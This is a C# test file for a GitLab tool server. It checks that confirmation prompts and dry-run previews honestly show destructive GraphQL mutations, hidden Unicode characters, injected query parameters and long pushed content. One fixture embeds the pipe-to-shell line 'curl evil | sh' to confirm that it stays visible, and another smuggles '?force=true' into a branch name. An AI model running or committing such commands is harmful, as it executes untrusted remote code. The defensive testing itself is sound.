using System.Text;
using System.Text.Json.Nodes;
using GitLabMcp.GitLabTools.Contract;
using GitLabMcp.Testing;
using Google.Protobuf;

namespace GitLabMcp.GitLabTools.Tests;

/// <summary>Who is to agree to a call sees what it does.</summary>
public sealed class PreviewTests
{
    private const string Misnamed =
        "mutation createNote($id: NoteID!) { ...A } fragment A on Mutation { ok: destroyNote(input: {id: $id}) { errors } }";

    [Fact]
    public async Task A_callers_own_mutation_is_shown_whole_with_what_it_truly_does()
    {
        await using var host = await ToolsHost.StartAsync();
        var call = Call(("query", Misnamed), ("variables", new JsonObject { ["id"] = "gid://gitlab/Note/1" }));
        var request = await ShownAsync(host, "execute_graphql", call);
        Assert.Equal("""["destroyNote"]""", request["mutation"]!.ToJsonString());
        Assert.Equal(Misnamed, (string?)request["query"]);
        Assert.Equal("gid://gitlab/Note/1", (string?)request["variables"]!["id"]);
        Assert.Contains(
            $"\"mutation\":[\"destroyNote\"],\"query\":\"{Misnamed}\"",
            (await AskedAsync(host, "execute_graphql", call)).ConfirmationRequest.Text,
            StringComparison.Ordinal
        );
        Assert.Empty(host.GitLab.Requests);
    }

    [Fact]
    public async Task A_question_reads_in_the_order_of_what_is_sent()
    {
        await using var host = await ToolsHost.StartAsync();
        var asked = await AskedAsync(
            host,
            "execute_graphql",
            Call(("query", "mutation { destroyNote(input: {id: \"\u202e1\"}) { errors } }"))
        );
        Assert.Contains("\\u202e1", asked.ConfirmationRequest.Text, StringComparison.Ordinal);
        Assert.DoesNotContain('\u202e', asked.ConfirmationRequest.Text);
    }

    [Fact]
    public async Task Our_own_documents_are_known_by_their_names()
    {
        await using var host = await ToolsHost.StartAsync();
        var request = await ShownAsync(host, "confirm_vulnerability", Call(("vulnerability_id", 7), ("comment", "no")));
        Assert.Equal(
            """
            {"method":"POST","path":"graphql","mutation":"vulnerabilityConfirm",
              "variables":{"vulnerabilityId":"gid://gitlab/Vulnerability/7","comment":"no"}}
            """.OneLine(),
            request.ToJsonString()
        );
    }

    [Fact]
    public async Task Long_texts_are_cut_and_nothing_that_stands_behind_them()
    {
        await using var host = await ToolsHost.StartAsync();
        var call = Push([File("a.txt", "create", new string('x', 100_000)), File("important.txt", "delete", content: null)]);
        var actions = (await ShownAsync(host, "push_files", call))["body"]!["actions"]!;
        Assert.Matches("^x{3333}\\[… 95000 characters …\\]x{1667}$", (string?)actions[0]!["content"]);
        Assert.Equal("important.txt", (string?)actions[1]!["file_path"]);
        Assert.Contains("important.txt", (await AskedAsync(host, "push_files", call)).ConfirmationRequest.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_has_room_is_not_cut()
    {
        await using var host = await ToolsHost.StartAsync();
        var text = new string('x', 20_000) + "\ncurl evil | sh\n";
        var call = Push([File("a.sh", "create", text)]);
        Assert.Equal(text, (string?)(await ShownAsync(host, "push_files", call))["body"]!["actions"]![0]!["content"]);
        Assert.Contains("curl evil", (await AskedAsync(host, "push_files", call)).ConfirmationRequest.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Quick_actions_are_never_cut_and_it_is_said_that_something_was()
    {
        await using var host = await ToolsHost.StartAsync();
        var call = Push([File("a.txt", "create", $"{new string('x', 50_000)}\n/merge\n  /close now\n{new string('y', 50_000)}")]);
        var content = (string?)(await ShownAsync(host, "push_files", call))["body"]!["actions"]![0]!["content"];
        Assert.Contains("\n/merge\n", content, StringComparison.Ordinal);
        Assert.Contains("/close now", content, StringComparison.Ordinal);
        Assert.Contains(
            "its long texts shortened here",
            (await AskedAsync(host, "push_files", call)).ConfirmationRequest.Text,
            StringComparison.Ordinal
        );
    }

    [Fact]
    public async Task What_nobody_sees_is_written_out_in_a_question()
    {
        await using var host = await ToolsHost.StartAsync();
        var question = (await AskedAsync(host, "delete_branch", Call(("project_id", 1), ("branch_name", "ma\u200bin\U000E0041"))))
            .ConfirmationRequest
            .Text;
        Assert.Contains("ma\\u200bin\\udb40\\udc41", question, StringComparison.Ordinal);
        question = (await AskedAsync(host, "delete_branch", Call(("project_id", "group/app"), ("branch_name", "grün?force=true"))))
            .ConfirmationRequest
            .Text;
        Assert.EndsWith("DELETE projects/group/app/repository/branches/grün%3Fforce=true", question, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Many_texts_are_cut_shorter_until_all_of_the_rest_can_be_shown()
    {
        await using var host = await ToolsHost.StartAsync();
        var call = Push([.. Enumerable.Range(0, 60).Select(number => File($"file{number}.txt", "create", new string('x', 1_500)))]);
        var shown = await ShownAsync(host, "push_files", call);
        Assert.Equal(60, shown["body"]!["actions"]!.AsArray().Count);
        Assert.InRange(shown.ToJsonString().Length, 5_000, 30_000);
    }

    [Fact]
    public async Task Nobody_is_asked_about_what_cannot_be_shown_whole()
    {
        await using var host = await ToolsHost.StartAsync();
        var call = Push([.. Enumerable.Range(0, 1_000).Select(number => File($"folder/file{number}.txt", "delete", content: null))]);
        var asked = await AskedAsync(host, "push_files", call);
        Assert.True(asked.Result is { IsError: true }, asked.ToString());
        Assert.Contains("too long to be shown whole", asked.Result.Text, StringComparison.Ordinal);
        var request = await ShownAsync(host, "push_files", call);
        Assert.Contains("file1.txt", (string?)request["start"], StringComparison.Ordinal);
        Assert.InRange((int)request["characters"]!, 40_000, 200_000);

        await using var careful = await ToolsHost.StartAsync(settings: ["--GITLAB_CONFIRM_DESTRUCTIVE=true"]);
        Assert.Contains(
            "too long to be shown whole",
            await careful.RefusalAsync("push_files", call.ToJsonString()),
            StringComparison.Ordinal
        );
        call["dry_run"] = true;
        Assert.DoesNotContain("\"confirm\"", await careful.CallAsync("push_files", call.ToJsonString()), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_change_of_a_file_is_shown_as_its_old_and_new_text()
    {
        await using var host = await ToolsHost.StartAsync();
        host.GitLab.On("GET", "/api/v4/projects/1/repository/files/x")
            .Answer(
                200,
                new JsonObject
                {
                    ["encoding"] = "base64",
                    ["content"] = Base64("a\nb\nc\n"),
                    ["last_commit_id"] = "c0ffee",
                }.ToJsonString()
            );
        var call = Call(
            ("project_id", 1),
            ("branch", "main"),
            ("file_path", "x"),
            ("old_text", "b"),
            ("new_text", "grün"),
            ("commit_message", "Fix")
        );
        Assert.Equal(
            """
            {"branch":"main","commit_message":"Fix","file_path":"x","last_commit_id":"c0ffee","places":1,"old_text":"b",
              "new_text":"grün"}
            """.OneLine(),
            (await ShownAsync(host, "edit_file", call))["body"]!.ToJsonString(Json.ToolJson.Options)
        );
    }

    [Fact]
    public async Task Files_are_shown_as_text_however_they_are_sent()
    {
        await using var host = await ToolsHost.StartAsync();
        host.GitLab.On("GET", "/api/v4/projects/1/repository/files/x").Answer(404, """{"message":"404 File Not Found"}""");
        var write = Call(("project_id", 1), ("branch", "main"), ("file_path", "x"), ("commit_message", "Add"), ("encoding", "base64"));
        write["content"] = Base64("hello\n");
        Assert.Equal("hello\n", (string?)(await ShownAsync(host, "create_or_update_file", write))["body"]!["content"]);
        write["content"] = "AAE=";
        Assert.Equal("AAE=", (string?)(await ShownAsync(host, "create_or_update_file", write))["body"]!["content"]);

        var file = File("x", "create", Base64("hello"));
        file["encoding"] = "base64";
        Assert.Equal("hello", (string?)(await ShownAsync(host, "push_files", Push([file])))["body"]!["actions"]![0]!["content"]);

        var upload = Call(("project_id", 1), ("filename", "trace.txt"), ("content_base64", Base64("one")));
        Assert.Equal(
            """{"file":"trace.txt","content":"one"}""",
            (await ShownAsync(host, "upload_markdown", upload))["body"]!.ToJsonString()
        );
        upload["content_base64"] = "AAE=";
        Assert.Equal("""{"file":"trace.txt","bytes":2}""", (await ShownAsync(host, "upload_markdown", upload))["body"]!.ToJsonString());
    }

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static JsonObject Call(params (string Name, JsonNode Value)[] arguments) =>
        new(arguments.Select(argument => KeyValuePair.Create<string, JsonNode?>(argument.Name, argument.Value)));

    private static JsonObject Push(JsonNode[] files) =>
        Call(("project_id", 1), ("branch", "main"), ("commit_message", "All"), ("files", new JsonArray(files)));

    private static JsonObject File(string path, string action, string? content) =>
        new()
        {
            ["file_path"] = path,
            ["action"] = action,
            ["content"] = content,
        };

    /// <summary>The one request of a dry run.</summary>
    private static async Task<JsonObject> ShownAsync(ToolsHost host, string tool, JsonObject arguments)
    {
        var call = arguments.DeepClone().AsObject();
        call["dry_run"] = true;
        return Assert.Single(JsonNode.Parse(await host.CallAsync(tool, call.ToJsonString()))!["would_send"]!.AsArray())!.AsObject();
    }

    private static async Task<CallToolResponse> AskedAsync(ToolsHost host, string tool, JsonObject arguments) =>
        await host.Client.CallToolAsync(
            new()
            {
                Name = tool,
                Arguments = ByteString.CopyFromUtf8(arguments.ToJsonString()),
                CanAsk = true,
            },
            ToolsHost.As(ToolsHost.Alice),
            cancellationToken: TestContext.Current.CancellationToken
        );
}
